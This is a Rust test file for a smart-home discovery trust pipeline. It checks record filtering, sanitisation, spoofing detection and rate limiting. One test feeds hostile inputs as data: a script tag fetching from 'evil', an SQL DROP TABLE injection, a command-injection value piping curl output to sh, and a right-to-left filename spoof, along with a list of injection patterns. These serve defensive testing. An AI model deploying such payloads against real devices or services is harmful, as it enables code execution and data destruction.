//! Record -> TrustPipeline -> DiscoveredDevice

#[cfg(test)]
mod tests {
    use crate::support::{homekit_record, init_tracing, matter_record};
    use hk_01_discovery_trust::test_utils::FixedTimeSource;
    use hk_01_discovery_trust::{
        AnomalyFinding, DeviceObservation, DiscoveryRecord, PipelineOutcome, RejectReason,
        TomlConfigProvider, TrustConfig, TrustPipeline, TrustPipelineApi,
    };
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Arc;
    use std::time::Duration;

    fn pipeline(config: &TrustConfig) -> (Arc<TrustPipeline>, Arc<FixedTimeSource>) {
        let clock = Arc::new(FixedTimeSource::from_secs(1_700_000_000));
        (Arc::new(TrustPipeline::from_config(config, clock.clone())), clock)
    }

    // =========================================================================
    // SCAN FLOWS
    // =========================================================================

    #[test]
    fn test_mixed_scan_yields_only_trusted_devices() {
        init_tracing();
        let (pipeline, _clock) = pipeline(&TrustConfig::default());

        let scan = vec![
            homekit_record("Eve Energy 1A2B", "192.168.1.20"),
            matter_record("Nanoleaf Essentials", "192.168.1.21"),
            DiscoveryRecord::new("Printer", "_ipp._tcp", "local."),
            DiscoveryRecord::new("Lamp", "_hap._tcp", "corp.example."),
            homekit_record("Thermostat", "192.168.1.22").with_attribute("ci", "64"),
        ];

        let accepted: Vec<_> = scan
            .iter()
            .filter_map(|record| match pipeline.evaluate(record, &[]) {
                PipelineOutcome::Accepted { device, .. } => Some(device),
                _ => None,
            })
            .collect();

        let names: Vec<_> = accepted.iter().map(|d| d.name.as_str()).collect();
        assert_eq!(names, vec!["Eve Energy 1A2B", "Nanoleaf Essentials"]);
    }

    #[test]
    fn test_hostile_records_are_neutralized_or_rejected() {
        init_tracing();
        let (pipeline, _clock) = pipeline(&TrustConfig::default());

        let hostile = vec![
            homekit_record("<script>fetch('//evil')</script>", "192.168.1.30"),
            homekit_record("Lamp\u{202E}gpj.exe", "192.168.1.31"),
            homekit_record("Lamp", "192.168.1.32").with_attribute("md", "x'; DROP TABLE notes; --"),
            homekit_record("Lamp", "192.168.1.33").with_attribute("fw", "1.0 $(curl evil|sh)"),
            homekit_record("Lamp", "192.168.1.34").with_attribute("md", vec![0xC3, 0x28, 0xA0]),
            homekit_record("Lamp", "192.168.1.35").with_attribute("bad key", "1"),
            homekit_record("Lamp", "192.168.1.36").with_attribute("md", "a\0b"),
            homekit_record(&"A".repeat(300), "192.168.1.37"),
        ];

        for record in &hostile {
            match pipeline.evaluate(record, &[]) {
                PipelineOutcome::Accepted { device, .. } => {
                    let name = device.name.to_ascii_lowercase();
                    assert!(!name.contains("<script"), "name {name:?}");
                    assert!(!name.contains('\u{202E}'));
                    for value in device.attributes.values() {
                        let value = value.to_ascii_lowercase();
                        for pattern in ["drop table", "';", "--", "$(", "|", "\0"] {
                            assert!(!value.contains(pattern), "{pattern:?} survived in {value:?}");
                        }
                    }
                }
                PipelineOutcome::Rejected(reason) => {
                    assert!(matches!(
                        reason,
                        RejectReason::InvalidAttributes | RejectReason::InvalidName
                    ));
                }
                PipelineOutcome::Throttled { .. } => panic!("no throttling expected"),
            }
        }
    }

    #[test]
    fn test_binary_attribute_placeholder() {
        let (pipeline, _clock) = pipeline(&TrustConfig::default());
        let record = homekit_record("Lamp", "192.168.1.40").with_attribute("md", vec![0xFF, 0xFE, 0x01]);

        let device = pipeline.evaluate(&record, &[]).device().cloned().expect("accepted");
        assert_eq!(device.attributes["md"].as_str(), "<binary:3bytes>");
    }

    // =========================================================================
    // SPOOFING AND FLOODING
    // =========================================================================

    #[test]
    fn test_host_rotating_names_is_flagged() {
        init_tracing();
        let (pipeline, _clock) = pipeline(&TrustConfig::default());
        let mut history: Vec<DeviceObservation> = Vec::new();
        let mut last_findings = Vec::new();

        for i in 0..8 {
            let record = homekit_record(&format!("Camera {i}"), "192.168.1.66");
            if let PipelineOutcome::Accepted { device, findings } = pipeline.evaluate(&record, &history) {
                history.push(device.observation());
                last_findings = findings;
            }
        }

        assert_eq!(history.len(), 8);
        assert_eq!(last_findings, vec![AnomalyFinding::NameChurn { count: 7 }]);
    }

    #[test]
    fn test_announcement_flood_throttled_then_recovers() {
        let (pipeline, clock) = pipeline(&TrustConfig::default());
        let record = homekit_record("Chatty Plug", "192.168.1.70");

        let accepted = (0..150)
            .filter(|_| pipeline.evaluate(&record, &[]).is_accepted())
            .count();
        assert_eq!(accepted, 100);

        clock.advance(Duration::from_secs(61));
        assert!(pipeline.evaluate(&record, &[]).is_accepted());
    }

    #[test]
    fn test_concurrent_callbacks_respect_ceiling() {
        let (pipeline, _clock) = pipeline(&TrustConfig::default());
        let accepted = AtomicUsize::new(0);
        let record = homekit_record("Shared Bridge", "192.168.1.80");

        std::thread::scope(|scope| {
            for _ in 0..6 {
                scope.spawn(|| {
                    for _ in 0..40 {
                        if pipeline.evaluate(&record, &[]).is_accepted() {
                            accepted.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                });
            }
        });

        assert_eq!(accepted.load(Ordering::Relaxed), 100);
        assert_eq!(pipeline.rate_limiter().stats().denied, 140);
    }

    // =========================================================================
    // CONFIGURATION
    // =========================================================================

    #[test]
    fn test_pipeline_from_toml() {
        let provider = TomlConfigProvider::parse(
            r#"
            [rate_limit]
            max_announcements = 2
            window_secs = 5

            [anomaly]
            sensitive_ports = [8080]
            "#,
        )
        .unwrap();
        let clock = Arc::new(FixedTimeSource::from_secs(1_700_000_000));
        let pipeline = TrustPipeline::from_provider(&provider, clock);
        let record = homekit_record("Lamp", "192.168.1.90");

        match pipeline.evaluate(&record, &[]) {
            PipelineOutcome::Accepted { findings, .. } => {
                assert_eq!(findings, vec![AnomalyFinding::SuspiciousPort { port: 8080 }]);
            }
            other => panic!("expected acceptance, got {other:?}"),
        }
        assert!(pipeline.evaluate(&record, &[]).is_accepted());
        assert!(matches!(
            pipeline.evaluate(&record, &[]),
            PipelineOutcome::Throttled { .. }
        ));
    }
}
